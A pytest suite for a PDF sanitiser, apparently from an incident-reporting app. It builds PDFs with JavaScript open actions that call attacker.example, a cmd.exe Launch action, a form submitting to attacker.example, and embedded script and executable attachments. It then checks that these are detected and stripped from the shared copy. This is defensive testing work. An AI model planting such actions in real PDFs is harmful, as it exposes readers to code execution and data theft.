"""PDFs: active content is found, and the copy to share has none of it when read again.

Every PDF here is built with pikepdf, the library the code reads them with."""

import io

import pikepdf
import pytest
from django.utils import translation
from pikepdf import Array, Dictionary, Name, String

from salvaguarda.incidents.files import pdfs, sniff
from salvaguarda.incidents.files.sniff import RefusedFile

JS = "app.launchURL('https://attacker.example/opened', true);"


def document(pages: int = 2) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(200, 200))
    pdf.docinfo["/Author"] = "Rosa Hernández"
    return pdf


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def link(pdf: pikepdf.Pdf, action: Dictionary, page: int = 0) -> None:
    annotation = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 50, 50], A=action)
    )
    target = pdf.pages[page].obj
    target.Annots = Array([*target.get("/Annots", Array()), annotation])


def javascript_open_action() -> bytes:
    pdf = document()
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(JS)))
    return saved(pdf)


def launch_action() -> bytes:
    pdf = document()
    link(pdf, Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\cmd.exe")))
    return saved(pdf)


def embedded_file() -> bytes:
    pdf = document()
    spec = pikepdf.AttachedFileSpec(
        pdf, b"<html><script>steal()</script></html>", filename="a.html"
    )
    pdf.attachments["a.html"] = spec
    return saved(pdf)


def codes(data: bytes) -> list[str]:
    return pdfs.active_content(io.BytesIO(data))


def shared(data: bytes) -> bytes:
    copy = pdfs.without_active_content(io.BytesIO(data))
    assert sniff.check_upload(io.BytesIO(copy), max_bytes=len(copy) + 1) == sniff.PDF
    with pikepdf.open(io.BytesIO(copy)) as reopened, pikepdf.open(io.BytesIO(data)) as original:
        assert len(reopened.pages) == len(original.pages)  # the same pages
    return copy


class TestFinding:
    def test_a_plain_document_has_nothing(self) -> None:
        assert codes(saved(document())) == []

    def test_a_javascript_open_action(self) -> None:
        assert codes(javascript_open_action()) == [pdfs.JAVASCRIPT]

    def test_a_launch_action(self) -> None:
        assert codes(launch_action()) == [pdfs.LAUNCH]

    def test_an_embedded_file(self) -> None:
        assert codes(embedded_file()) == [pdfs.EMBEDDED_FILE]

    def test_a_document_level_script(self) -> None:
        pdf = document()
        script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(JS)))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))
        assert codes(saved(pdf)) == [pdfs.JAVASCRIPT]

    def test_a_script_run_when_a_page_opens(self) -> None:
        pdf = document()
        pdf.pages[1].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String(JS)))
        assert codes(saved(pdf)) == [pdfs.JAVASCRIPT]

    def test_a_form_field_script_and_a_form_that_sends(self) -> None:
        pdf = document()
        field = pdf.make_indirect(
            Dictionary(
                FT=Name.Tx,
                T=String("name"),
                AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String(JS))),
                A=Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/form")),
            )
        )
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
        assert codes(saved(pdf)) == [pdfs.JAVASCRIPT, pdfs.SUBMIT_FORM]

    def test_a_dynamic_xfa_form(self) -> None:
        pdf = document()
        xfa = pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
        assert codes(saved(pdf)) == [pdfs.JAVASCRIPT]

    def test_a_script_hidden_in_an_object_stream(self) -> None:
        data = saved(
            pikepdf.open(io.BytesIO(javascript_open_action())),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        )
        assert b"JavaScript" not in data  # compressed: a search of the bytes would miss it
        assert codes(data) == [pdfs.JAVASCRIPT]

    def test_a_script_after_a_harmless_action(self) -> None:
        pdf = document()
        script = Dictionary(S=Name.JavaScript, JS=String(JS))
        link(pdf, Dictionary(S=Name.Named, N=Name.NextPage, Next=script))
        assert codes(saved(pdf)) == [pdfs.JAVASCRIPT]

    @pytest.mark.parametrize(
        ("action", "code"),
        [
            ("/GoToR", pdfs.LAUNCH),
            ("/GoToE", pdfs.LAUNCH),
            ("/ImportData", pdfs.LAUNCH),
            ("/SubmitForm", pdfs.SUBMIT_FORM),
            ("/Rendition", pdfs.RICH_MEDIA),
        ],
    )
    def test_other_actions_that_reach_outside(self, action: str, code: str) -> None:
        pdf = document()
        link(pdf, Dictionary(S=Name(action), F=String("\\\\server\\share\\x.pdf")))
        assert codes(saved(pdf)) == [code]
        assert codes(shared(saved(pdf))) == []

    def test_opening_at_a_page_and_moving_within_the_document_are_not_active(self) -> None:
        pdf = document()
        pdf.Root.OpenAction = Array([pdf.pages[1].obj, Name.Fit])
        link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])))
        link(pdf, Dictionary(S=Name.Named, N=Name.NextPage))
        data = saved(pdf)
        assert codes(data) == []
        with pikepdf.open(io.BytesIO(shared(data))) as copy:
            assert "/OpenAction" in copy.Root
            assert [str(a.A.S) for a in copy.pages[0].obj.Annots] == ["/GoTo", "/Named"]

    def test_web_and_email_links_are_not_active_but_other_links_are(self) -> None:
        pdf = document()
        link(pdf, Dictionary(S=Name.URI, URI=String("https://www.example.org/informe")))
        link(pdf, Dictionary(S=Name.URI, URI=String("mailto:contacto@example.org")))
        assert codes(saved(pdf)) == []
        link(pdf, Dictionary(S=Name.URI, URI=String("file://server/share/x.exe")))
        assert codes(saved(pdf)) == [pdfs.LAUNCH]

    def test_a_file_attachment_note_and_rich_media(self) -> None:
        pdf = document()
        pdf.pages[0].obj.Annots = Array(
            [
                Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9]),
                Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9]),
            ]
        )
        assert codes(saved(pdf)) == [pdfs.EMBEDDED_FILE, pdfs.RICH_MEDIA]

    def test_a_damaged_or_locked_file_is_unreadable_not_clean(self) -> None:
        assert codes(b"%PDF-1.7\n" + b"\x00garbage" * 50) == [pdfs.UNREADABLE]
        locked = saved(document(), encryption=pikepdf.Encryption(user="secreto", owner="dueño"))
        assert codes(locked) == [pdfs.UNREADABLE]

    def test_the_source_is_rewound(self) -> None:
        source = io.BytesIO(javascript_open_action())
        source.seek(5)
        pdfs.active_content(source)
        assert source.tell() == 0


class TestSharedCopy:
    def test_the_javascript_open_action_is_gone(self) -> None:
        copy = shared(javascript_open_action())
        with pikepdf.open(io.BytesIO(copy)) as pdf:
            assert "/OpenAction" not in pdf.Root
        assert JS.encode() not in copy
        assert codes(copy) == []

    def test_the_launch_action_is_gone_and_the_link_box_stays(self) -> None:
        copy = shared(launch_action())
        with pikepdf.open(io.BytesIO(copy)) as pdf:
            (annotation,) = pdf.pages[0].obj.Annots
            assert "/A" not in annotation
        assert b"cmd.exe" not in copy
        assert codes(copy) == []

    def test_the_embedded_file_is_gone(self) -> None:
        copy = shared(embedded_file())
        with pikepdf.open(io.BytesIO(copy)) as pdf:
            assert len(pdf.attachments) == 0
            assert not any(
                isinstance(obj, pikepdf.Stream) and obj.get("/Type") == Name.EmbeddedFile
                for obj in pdf.objects
            )
        assert codes(copy) == []

    def test_every_kind_at_once_and_a_web_link_kept(self) -> None:
        pdf = pikepdf.open(io.BytesIO(javascript_open_action()))
        pdf.attachments["b.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + b"\x90" * 64)
        link(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe")), page=1)
        link(pdf, Dictionary(S=Name.URI, URI=String("https://www.example.org/informe")))
        pdf.pages[1].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String(JS)))
        data = saved(pdf)
        assert codes(data) == [pdfs.EMBEDDED_FILE, pdfs.JAVASCRIPT, pdfs.LAUNCH]
        copy = shared(data)
        assert codes(copy) == []
        with pikepdf.open(io.BytesIO(copy)) as clean:
            (kept,) = clean.pages[0].obj.Annots
            assert str(kept.A.URI) == "https://www.example.org/informe"
            assert "/AA" not in clean.pages[1].obj

    def test_the_document_information_is_left_out(self) -> None:
        data = saved(document())
        assert b"Hern" in data
        copy = shared(data)
        with pikepdf.open(io.BytesIO(copy)) as pdf:
            assert "/Info" not in pdf.trailer
            assert "/Metadata" not in pdf.Root

    def test_a_plain_document_keeps_its_pages(self) -> None:
        assert codes(shared(saved(document(pages=3)))) == []

    def test_an_unreadable_file_gets_no_copy(self) -> None:
        with translation.override("en"), pytest.raises(RefusedFile) as refused:
            pdfs.without_active_content(io.BytesIO(b"%PDF-1.7\n" + b"\x00garbage" * 50))
        assert refused.value.code == pdfs.UNREADABLE
        assert "password" in refused.value.message

    def test_a_document_locked_only_against_changes_is_read_and_copied(self) -> None:
        locked = saved(
            pikepdf.open(io.BytesIO(javascript_open_action())),
            encryption=pikepdf.Encryption(user="", owner="dueño"),
        )
        assert codes(locked) == [pdfs.JAVASCRIPT]
        copy = shared(locked)
        assert codes(copy) == []
        with pikepdf.open(io.BytesIO(copy)) as pdf:
            assert not pdf.is_encrypted
